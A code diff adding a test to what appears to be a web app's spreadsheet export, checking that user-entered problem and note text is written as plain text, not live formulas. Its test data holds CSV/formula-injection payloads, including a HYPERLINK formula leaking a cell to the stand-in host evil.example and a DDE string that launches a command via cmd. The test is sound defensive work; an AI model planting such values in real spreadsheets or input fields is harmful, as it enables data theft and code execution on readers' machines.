@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import io
 import threading
+import zipfile
 from collections import Counter
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
@@ -230,3 +231,26 @@ def test_export_workbook_matches_the_api(client, world):
     verify = client.get(f"/api/v1/periods/{pid}/ledger/verify", headers=headers["officer"]).get_json()
     assert verify["ok"] and verify["head"] == head == entries[-1]["hash"]
     assert ledger[-1][:4] == ("台账末条哈希", head, "校验", "通过")
+
+
+def test_export_writes_text_as_text_never_as_a_formula(client, world):
+    """A problem or note typed as =HYPERLINK(…), +1, -1 or @SUM(…) must not become a live
+    formula in the street's spreadsheet (the reader's Excel would run it)."""
+    orgs, _, headers = world
+    period = start(client, world)
+    a = card_url(period, orgs["a"])
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
+    put = client.put(f"{a}/criteria/G1", headers=headers["sec_a"], json={"points": 4, "note": hostile[0]})
+    assert put.status_code == 200, put.get_json()
+    for text in hostile:
+        added = client.post(f"{a}/problems", headers=headers["sec_a"], json={
+            "problem": text, "measure": text, "owner": "李红梅", "deadline": "2027-03-31", "standard_code": "G"})
+        assert added.status_code == 201, added.get_json()
+    exported = client.get(f"/api/v1/periods/{period['id']}/export.xlsx", headers=headers["officer"])
+    book = load_workbook(io.BytesIO(exported.data))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str) and cell.value in hostile]
+    assert {c.value for c in cells} == set(hostile) and len(cells) >= 2 * len(hostile) + 1
+    assert all(c.data_type == "s" for c in cells)
+    raw = zipfile.ZipFile(io.BytesIO(exported.data))
+    assert not any("<f>" in raw.read(name).decode() for name in raw.namelist() if name.startswith("xl/worksheets/"))
